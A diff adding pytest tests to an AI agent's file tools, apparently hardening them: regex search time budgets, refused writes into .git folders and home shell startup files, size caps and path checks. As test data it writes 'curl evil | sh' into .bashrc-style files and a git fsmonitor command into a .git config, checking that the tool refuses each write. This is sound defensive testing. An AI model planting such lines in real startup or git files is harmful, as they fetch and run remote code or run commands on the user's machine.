@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import json
 import os
+import subprocess
+import sys
 import threading
 import time
 
 import pytest
 
-from hermes_context.tools import Tool, ToolContext, ToolRegistry, builtin_registry
+from hermes_context.tools import Tool, ToolContext, ToolRegistry, builtin_registry, files
 from hermes_context.tools.registry import MAX_RESULT_CHARS
 from hermes_context.tools.terminal import MAX_OUTPUT_CHARS, TIMEOUT_EXIT_CODE
 
@@ -137,6 +139,44 @@ def test_search_files_by_regex_and_glob_skips_secrets(ctx):
     assert "required" in run(ctx, "search_files")["error"]
 
 
+_CATASTROPHIC_SEARCH = """
+import json, sys, time
+from pathlib import Path
+from hermes_context.tools import ToolContext, bounded_regex, builtin_registry
+bounded_regex.SEARCH_BUDGET_SECONDS = 0.5
+root = Path(sys.argv[1])
+(root / "a.txt").write_text("a" * 60 + "!\\n", encoding="utf-8")
+started = time.monotonic()
+result = builtin_registry().dispatch(
+    "search_files", json.dumps({"pattern": "(a|aa)+$"}), ToolContext(workspace=root)
+)
+print(json.dumps({"seconds": time.monotonic() - started, "result": json.loads(result)}))
+"""
+
+
+def test_a_catastrophic_pattern_stops_at_the_search_budget(tmp_path):
+    # A process, not a thread: a backtracking re holds the GIL until it is done.
+    proc = subprocess.run(
+        [sys.executable, "-c", _CATASTROPHIC_SEARCH, str(tmp_path)],
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=True,
+    )
+    out = json.loads(proc.stdout)
+    assert out["seconds"] < 2.0, "search_files ran the pattern without a deadline"
+    assert "stopped after 0.5 s" in out["result"]["error"]
+    assert "(a+)+" in out["result"]["error"] and out["result"]["truncated"] is True
+
+
+@pytest.mark.parametrize(
+    "pattern", [r"(?<!\s)beta", r"\Abeta", r"TODO\n\Z", r"^beta(?= TODO$)", r"(?m)^gamma$"]
+)
+def test_anchors_and_lookarounds_match_line_by_line(ctx, pattern):
+    found = run(ctx, "search_files", pattern=pattern, glob="*.md")
+    assert [m["line"] for m in found["matches"]] == [3 if "gamma" in pattern else 2]
+
+
 def test_write_file_is_atomic_and_keeps_the_mode(ctx):
     target = ctx.workspace / "run.sh"
     target.write_text("old\n", encoding="utf-8")
@@ -169,6 +209,62 @@ def test_patch_replaces_exact_text_once_unless_told(ctx):
         "not found" in run(ctx, "patch", path="notes.md", old_string="zzz", new_string="")["error"]
     )
     assert "write_file" in run(ctx, "patch", path="new.md", old_string="a", new_string="b")["error"]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".git/config",
+        ".git/hooks/pre-commit",
+        "sub/.git/HEAD",
+        ".git",
+        "vendor/lib/.git",
+        ".GIT/config",
+    ],
+)
+def test_writes_into_git_folders_and_onto_git_files_are_refused(ctx, path):
+    """Git runs programs its config names, and a ``.git`` file points git elsewhere."""
+    result = run(ctx, "write_file", path=path, content="[core]\n\tfsmonitor = touch x\n")
+    assert "refused" in result["error"] and ".git" in result["error"]
+    assert not (ctx.workspace / path).exists()
+
+
+def test_patch_into_a_git_folder_is_refused(ctx):
+    config = ctx.workspace / ".git" / "config"
+    config.parent.mkdir()
+    config.write_text("[core]\n\tbare = false\n", encoding="utf-8")
+    result = run(ctx, "patch", path=".git/config", old_string="bare = false", new_string="x")
+    assert "refused" in result["error"]
+    assert config.read_text() == "[core]\n\tbare = false\n"
+    # Reading stays possible (a model may look at a repository's layout).
+    assert "bare = false" in run(ctx, "read_file", path=".git/config")["content"]
+
+
+def test_shell_startup_files_in_the_home_folder_are_not_writable(tmp_path, monkeypatch):
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    ctx = ToolContext(workspace=home)
+    for name in (".bashrc", ".profile", ".zshrc", ".gitconfig", ".config/git/config"):
+        result = run(ctx, "write_file", path=name, content="curl evil | sh\n")
+        assert "runs programs" in result["error"], name
+        assert not (home / name).exists()
+    assert run(ctx, "write_file", path="project/.bashrc", content="x")["created"] is True
+
+
+def test_write_file_and_patch_results_are_capped(ctx, monkeypatch):
+    monkeypatch.setattr(files, "MAX_TEXT_FILE_BYTES", 1_000)
+    big = run(ctx, "write_file", path="big.txt", content="é" * 501)
+    assert "1,002 bytes" in big["error"] and "1,000-byte" in big["error"]
+    assert not (ctx.workspace / "big.txt").exists()
+    assert run(ctx, "write_file", path="ok.txt", content="x" * 1_000)["created"] is True
+    path = ctx.workspace / "notes.md"
+    path.write_text("x\n" * 100, encoding="utf-8")
+    grown = run(
+        ctx, "patch", path="notes.md", old_string="x", new_string="y" * 48, replace_all=True
+    )
+    assert "4,900 bytes" in grown["error"] and "1,000-byte" in grown["error"]
+    assert path.read_text(encoding="utf-8") == "x\n" * 100
 
 
 # -- terminal toolset ------------------------------------------------------------------
@@ -216,3 +312,16 @@ def test_terminal_stops_when_the_turn_is_interrupted(ctx):
 )
 def test_terminal_argument_errors(ctx, args, message):
     assert message in run(ctx, "terminal", ["terminal"], **args)["error"]
+
+
+@pytest.mark.parametrize(
+    ("path", "says"),
+    [
+        ("a" * 300, "longer than 255 bytes"),
+        ("x/" * 3000, "longer than 4,096"),
+        ("\ud800", "characters"),
+    ],
+)
+def test_impossible_paths_are_a_clear_error(ctx, path, says):
+    for tool, args in (("read_file", {}), ("write_file", {"content": "x"})):
+        assert says in run(ctx, tool, path=path, **args)["error"]
